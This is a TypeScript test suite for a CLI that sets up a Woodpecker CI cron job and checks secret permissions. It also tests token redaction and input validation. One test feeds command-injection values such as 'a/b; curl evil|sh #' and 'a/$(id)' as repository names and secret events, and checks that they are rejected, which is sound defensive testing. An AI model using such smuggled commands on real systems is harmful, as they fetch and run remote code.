import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe, it } from 'node:test'
import { runCli } from '../../src/reporter/cli.ts'
import { repositoryOfUrl } from '../../src/reporter/woodpecker-settings.ts'
import { makeRepository } from '../reporter/check-run.ts'
import { type FakeOptions, type FakeWoodpecker, startFakeWoodpecker } from './fake-woodpecker.ts'

const ALL = ['cron', 'manual', 'push']
const SECRETS = [{ name: 'ssh_private_key', events: ALL }]
const OURS = { name: 'gitops_sync_check', branch: 'master', schedule: '*/2 * * * *', timezone: 'UTC', enabled: true }

interface Outcome {
  readonly code: number
  readonly out: string
  readonly err: string
}

async function setUp(
  { url, token }: Pick<FakeWoodpecker, 'url' | 'token'>,
  args: readonly string[] = [],
  more: { readonly env?: Record<string, string>; readonly directory?: string } = {},
): Promise<Outcome> {
  const out: string[] = []
  const err: string[] = []
  const code = await runCli(['woodpecker', 'setup', ...args], {
    env: {
      PATH: process.env.PATH,
      WOODPECKER_SERVER: url,
      WOODPECKER_TOKEN: token,
      CI_REPO: 'ops/rsyslog',
      ...more.env,
    },
    directory: more.directory ?? '/',
    console: { out: (line) => out.push(line), err: (line) => err.push(line) },
    terminal: false,
    signal: new AbortController().signal,
  })
  assert(!`${out.join()}${err.join()}`.includes(token), 'the token is shown nowhere')
  return { code, out: out.join('\n'), err: err.join('\n') }
}

async function setUpWith(options: FakeOptions, args: readonly string[] = []) {
  await using fake = await startFakeWoodpecker({ secrets: SECRETS, ...options })
  return { ...(await setUp(fake, args)), crons: fake.crons, requests: fake.requests }
}

const wrote = (requests: readonly string[]) => requests.filter((request) => !request.startsWith('GET '))

describe('gitops-status woodpecker setup', () => {
  describe('the cron job', () => {
    it('is made, and enabled, which Woodpecker would not do by itself', async () => {
      const { code, out, crons } = await setUpWith({ crons: [{ name: 'nightly' }] })

      assert.equal(code, 0)
      assert.match(out, /^✓ Cron job gitops_sync_check: made: "\*\/2 \* \* \* \*", on master, UTC$/m)
      const { name, branch, schedule, timezone, enabled } = crons[1] ?? assert.fail()
      assert.deepEqual({ name, branch, schedule, timezone, enabled }, OURS)
    })

    it('is left alone when it is as it should be', async () => {
      const { code, out, requests } = await setUpWith({ crons: [OURS] })

      assert.equal(code, 0)
      assert.match(out, /^✓ Cron job gitops_sync_check: "\*\/2 \* \* \* \*", on master, UTC$/m)
      assert.deepEqual(wrote(requests), [])
    })

    it('counts an empty branch as the default one', async () => {
      assert.deepEqual(wrote((await setUpWith({ crons: [{ ...OURS, branch: '' }] })).requests), [])
    })

    it('is mended where it differs, and nowhere else', async () => {
      const there = { ...OURS, branch: 'old', schedule: '@daily', enabled: false, variables: { A: 'b' } }
      const { code, out, crons, requests } = await setUpWith({ crons: [{ name: 'nightly' }, there] })

      assert.equal(code, 0)
      assert.match(
        out,
        /changed: branch "old" to "master", schedule "@daily" to "\*\/2 \* \* \* \*", enabled false to true/,
      )
      assert.deepEqual(wrote(requests), ['PATCH /api/repos/7/cron/2'])
      assert.deepEqual({ ...crons[1], ...OURS }, crons[1])
      assert.deepEqual(crons[1]?.variables, { A: 'b' })
    })

    it('is found on any page', async () => {
      const others = Array.from({ length: 120 }, (_, index) => ({ name: `other-${index}` }))
      assert.deepEqual(wrote((await setUpWith({ crons: [...others, OURS] })).requests), [])
    })

    it('is what the flags say', async () => {
      const flags = ['--cron', 'drift', '--branch', 'main', '--schedule', '@every 5m', '--timezone', 'Europe/Vienna']
      const { out, crons } = await setUpWith({ branches: ['main'], crons: [] }, flags)

      assert.match(out, /^✓ Cron job drift: made: "@every 5m", on main, Europe\/Vienna$/m)
      assert.equal(crons[0]?.timezone, 'Europe/Vienna')
    })

    it('is only named with --dry-run', async () => {
      const made = await setUpWith({}, ['--dry-run'])
      const mended = await setUpWith({ crons: [{ ...OURS, enabled: false }] }, ['--dry-run'])

      assert.deepEqual([...wrote(made.requests), ...wrote(mended.requests), made.code, mended.code], [0, 0])
      assert.match(made.out, /^~ Cron job gitops_sync_check: would be made/m)
      assert.match(mended.out, /^~ Cron job gitops_sync_check: would be changed: enabled false to true/m)
    })

    it('says what Woodpecker refuses, and what to do', async () => {
      const branch = await setUpWith({}, ['--branch', 'nowhere'])
      const zone = await setUpWith({}, ['--timezone', 'Mars'])

      assert.equal(branch.code, 1)
      assert.match(branch.out, /^✗ Cron job .*HTTP 400: .*branch not resolved.*\n {4}→ Is there a branch nowhere\?/m)
      assert.match(zone.out, /^✗ Cron job .*HTTP 422: .*unknown time zone Mars$/m)
    })
  })

  describe('an older server', () => {
    it('that knows no `enabled` runs every cron job', async () => {
      for (const version of ['3.0.1', '3.12.0']) {
        const made = await setUpWith({ version })
        assert.equal(made.code, 0, made.out)
        assert.equal(made.crons[0]?.enabled, undefined)
        const { enabled: _, timezone: __, ...there } = OURS
        assert.deepEqual(wrote((await setUpWith({ version, crons: [there] })).requests), [])
      }
    })

    it('that knows no time zones is not said to keep one', async () => {
      const utc = await setUpWith({ version: '3.14.2' })
      const vienna = await setUpWith({ version: '3.14.2' }, ['--timezone', 'Europe/Vienna'])

      assert.equal(utc.code, 0)
      assert.equal(vienna.code, 1)
      assert.match(vienna.out, /^✗ Cron job .*knows no time zones for cron jobs \(3\.15 does\)/m)
    })

    it('of Woodpecker 2 is too old', async () => {
      assert.match((await setUpWith({ version: '2.8.3' })).out, /^✗ Woodpecker: 2\.8\.3 is too old/)
    })

    it('may hide its version, or come from the main branch', async () => {
      for (const version of ['next-a4cb541b8d', '']) assert.equal((await setUpWith({ version })).code, 0)
    })
  })

  describe('the secrets', () => {
    it('are in order when push, cron and manual may use them', async () => {
      const { code, out } = await setUpWith({})
      assert.equal(code, 0)
      assert.match(out, /^✓ Secret SSH_PRIVATE_KEY: allowed for cron, manual, push$/m)
    })

    it('that only push may use are named, with what to tick and the command for it', async () => {
      const { code, out } = await setUpWith({ secrets: [{ name: 'SSH_PRIVATE_KEY', events: ['push', 'tag'] }] })

      assert.equal(code, 1)
      assert.match(out, /^✗ Secret SSH_PRIVATE_KEY: is not allowed for cron and manual: such a pipeline fails before/m)
      assert.match(
        out,
        /→ Tick cron and manual: Woodpecker, repository settings, Secrets; or: woodpecker-cli repo secret update --repository ops\/rsyslog --name SSH_PRIVATE_KEY --event push --event tag --event cron --event manual$/m,
      )
    })

    it('that are missing are named', async () => {
      const { code, out } = await setUpWith({ secrets: [], isOrganisationAdmin: true })
      assert.equal(code, 1)
      assert.match(out, /^✗ Secret SSH_PRIVATE_KEY: is missing: .*\n.*secret add --repository ops\/rsyslog /m)
    })

    it('may belong to the organisation or the server, and the nearest counts', async () => {
      const organisation = await setUpWith({ secrets: [], organisationSecrets: SECRETS, isOrganisationAdmin: true })
      const server = await setUpWith({ secrets: [], globalSecrets: SECRETS, isOrganisationAdmin: true })
      const nearest = await setUpWith({
        secrets: [{ name: 'ssh_private_key', events: ['push'] }],
        globalSecrets: SECRETS,
      })

      assert.deepEqual([organisation.code, server.code, nearest.code], [0, 0, 1])
    })

    it('that this user may not see are not called missing, and not called well', async () => {
      const { code, out } = await setUpWith({ version: '3.2.0', secrets: [] })
      assert.equal(code, 1)
      assert.match(out, /^\? Secret SSH_PRIVATE_KEY: .* may not see those of the organisation/m)
    })

    it('that a pull request could print are named', async () => {
      const { code, out } = await setUpWith({
        secrets: [{ name: 'ssh_private_key', events: [...ALL, 'pull_request'] }],
      })
      assert.equal(code, 1)
      assert.match(out, /is allowed for pull_request, too: whoever opens a pull request can print it/)
    })

    it('that are for plugins only are named', async () => {
      const { out } = await setUpWith({ secrets: [{ name: 'ssh_private_key', events: ALL, images: ['plugins/x'] }] })
      assert.match(out, /is for the plugins plugins\/x only/)
    })

    it('are those of the step that reports, or those that the flags name', async () => {
      const other = '  - name: build\n    settings:\n      password:\n        from_secret: registry_password\n'
      const ours =
        '  - name: status\n    environment:\n      A:\n        from_secret: one\n      # from_secret: none\n      B: {from_secret: "two"}\n    commands:\n      - ./update-gitops-status.sh\n'
      const shared = `variables:\n  - &env {A: {from_secret: three}}\nsteps:\n  - name: status\n    environment: *env\n    commands: ./update-gitops-status.sh\n`
      for (const [files, flags, expected] of [
        [{ '.woodpecker.yml': `steps:\n${other}${ours}` }, [], ['one', 'two']],
        [{ '.woodpecker/a.yml': `steps:\n${other}`, '.woodpecker/b.yaml': shared }, [], ['three']],
        [{ '.woodpecker.yml': `steps:\n${other}` }, [], ['SSH_PRIVATE_KEY']],
        [{ '.woodpecker.yml': `steps:\n${ours}` }, ['--secret', 'four'], ['four']],
      ] as const) {
        using own = makeRepository(files)
        await using fake = await startFakeWoodpecker()
        const { out } = await setUp(fake, flags, { directory: own.directory })
        assert.deepEqual(
          [...out.matchAll(/Secret (\w+)/g)].map(([, name]) => name),
          expected,
        )
      }
    })
  })

  describe('what stands in the way', () => {
    it('is a token that is not taken', async () => {
      await using fake = await startFakeWoodpecker()
      const { code, out } = await setUp({ url: fake.url, token: 'wrong-token' })
      assert.equal(code, 1)
      assert.match(out, /✗ Token: Woodpecker does not take it\n {4}→ Make a new one/)
    })

    it('is a repository that is not known, or not enabled', async () => {
      const unknown = await setUpWith({}, ['--repository', 'ops/other'])
      const disabled = await setUpWith({ active: false })

      assert.match(
        unknown.out,
        /^✗ Repository: Woodpecker does not know ops\/other, or does not show it to this user$/m,
      )
      assert.match(disabled.out, /^✗ Repository: ops\/rsyslog is not enabled$/m)
      assert.deepEqual([wrote(unknown.requests), wrote(disabled.requests)], [[], []])
    })

    it('is a user who may not push', async () => {
      const { code, out } = await setUpWith({ canPush: false })
      assert.equal(code, 1)
      assert.match(out, /^✗ Cron job .*may not see the cron jobs\n.*allowed to push/m)
      assert.match(out, /^✗ Secrets: this user may not see them/m)
    })

    it('is another pipeline file', async () => {
      assert.match(
        (await setUpWith({ configFile: 'ci/woodpecker.yml' })).out,
        /^✗ Pipeline file: .* ci\/woodpecker\.yml/m,
      )
    })

    it('is an address where no Woodpecker answers', async () => {
      await using fake = await startFakeWoodpecker()
      const page = await setUp({ url: `${fake.url}/elsewhere`, token: fake.token })
      const closed = await setUp({ url: 'http://127.0.0.1:9', token: 'x'.repeat(20) })

      assert.equal(page.code, 1)
      assert.match(page.out, /something else than JSON: is it a Woodpecker\?/)
      assert.match(closed.out, /^✗ Woodpecker: http:\/\/127\.0\.0\.1:9 does not answer: /)
    })

    it('is an answer that leads elsewhere: the token is not sent after it', async () => {
      await using fake = await startFakeWoodpecker()
      const server = createServer((_, response) => response.writeHead(302, { location: fake.url }).end())
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`

      const { code, out } = await setUp({ url, token: fake.token })
      server.close()

      assert.equal(code, 1)
      assert.match(out, /leads elsewhere \(HTTP 302\): set WOODPECKER_SERVER/)
      assert.deepEqual(fake.requests, [])
    })

    it('is an answer that no Woodpecker gives, or that repeats the token', async () => {
      for (const body of ['null', '[]', '{"id":"7/../8"}', '"x"']) {
        const server = createServer((request, response) => {
          if (request.url === '/version') response.writeHead(500).end(`no: ${request.headers.authorization} \u001b[2J`)
          else response.end(body)
        })
        await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
        const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`

        const { code, out } = await setUp({ url, token: 'a-secret-token' })
        server.close()

        assert.equal(code, 1, body)
        assert(!out.includes('\u001b'))
      }
    })

    it('never shows the token, wherever in an answer it is repeated', async () => {
      const token = 'a-secret-token'
      const answers: Readonly<Record<string, unknown>> = {
        '/version': { version: `3.17.0 ${token}` },
        '/api/user': {},
        '/api/repos/lookup/ops/rsyslog': {
          ...{ id: 7, full_name: 'ops/rsyslog', active: true },
          ...{ default_branch: token, config_file: `ci/${token}.yml` },
        },
        '/api/repos/7/cron': [{ ...OURS, id: 1, schedule: token, branch: token, timezone: token }],
        '/api/repos/7/secrets': [{ ...SECRETS[0], images: [`plugins/${Buffer.from(token).toString('base64')}`] }],
      }
      await using server = createServer(({ url = '' }, response) => {
        const answer = JSON.stringify(answers[url.replace(/[?].*/, '')])
        response.end(url === '/version' ? answer : answer.replaceAll('a-secret', '\\u0061-secret'))
      })
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`

      const { out } = await setUp({ url, token }, ['--dry-run'])

      assert.match(out, /^✓ Woodpecker: 3\.17\.0 \*\*\*\n✓ Repository: ops\/rsyslog, default branch \*\*\*$/m)
      assert.match(out, /would be changed: .*schedule "\*\*\*" to /)
      assert.match(out, /is for the plugins plugins\/\*\*\*(==?)? only/)
    })

    it('is a name that would be a command of its own in one that is to be copied', async () => {
      for (const fullName of ['a/b; curl evil|sh #', 'a/$(id)', 'a/b\n', '--x/y', 'rsyslog', '']) {
        const { code, out, requests } = await setUpWith({ fullName, secrets: [] })
        assert.equal(code, 1, fullName)
        assert.match(
          out,
          /^✗ Woodpecker: its answer was not understood: the repository: full_name must be OWNER\/NAME/m,
        )
        assert.doesNotMatch(out, /woodpecker-cli/)
        assert.deepEqual(wrote(requests), [])
      }
      const { code, out } = await setUpWith({ secrets: [{ name: 'ssh_private_key', events: ['push;curl evil|sh'] }] })
      assert.equal(code, 1)
      assert.match(out, /a secret: an event must be a word, not "push;curl evil\|sh"$/m)
      assert.doesNotMatch(out, /woodpecker-cli/)
    })

    it('is named all at once when settings are missing or wrong', async () => {
      const { code, err } = await setUp({ url: 'ci.example.org', token: 'tok en' }, [
        '--schedule',
        '* * *',
        '--repository',
        '../x',
        '--secret',
        'a b',
        '--brnch',
        'x',
      ])
      assert.equal(code, 64)
      for (const word of ['WOODPECKER_SERVER', 'WOODPECKER_TOKEN', '--schedule', '--repository', '--secret', '--brnch'])
        assert.match(err, new RegExp(`^✗ .*${word}`, 'm'), word)
    })

    it('is an action that is not there', async () => {
      const { code, err } = await runPlain(['woodpecker', 'stup'])
      assert.equal(code, 64)
      assert.match(err, /it is gitops-status woodpecker setup/)
    })
  })

  it('works below a path, too', async () => {
    assert.equal((await setUpWith({ rootPath: '/ci' })).code, 0)
  })

  it('finds the repository by its remote', async () => {
    using own = makeRepository({})
    execFileSync('git', ['init', '--quiet', own.directory])
    execFileSync('git', ['-C', own.directory, 'remote', 'add', 'origin', 'git@git.example.org:ops/rsyslog.git'])
    await using fake = await startFakeWoodpecker({ secrets: SECRETS })

    const { code } = await setUp(fake, [], { directory: own.directory, env: { CI_REPO: '' } })

    assert.equal(code, 0)
  })

  it('reads the name of a repository from any form of its address', () => {
    for (const url of [
      'https://git.example.org/ops/rsyslog.git',
      'https://user:x@git.example.org:3000/ops/rsyslog/',
      'ssh://git@git.example.org:22/ops/rsyslog.git',
      'git@git.example.org:ops/rsyslog',
    ])
      assert.equal(repositoryOfUrl(url), 'ops/rsyslog', url)
    assert.equal(repositoryOfUrl('/srv/git/rsyslog'), null)
  })
})

async function runPlain(args: readonly string[]): Promise<Pick<Outcome, 'code' | 'err'>> {
  const err: string[] = []
  const console = { out: () => {}, err: (line: string) => err.push(line) }
  const signal = new AbortController().signal
  const code = await runCli(args, { env: {}, directory: '/', console, terminal: false, signal })
  return { code, err: err.join('\n') }
}
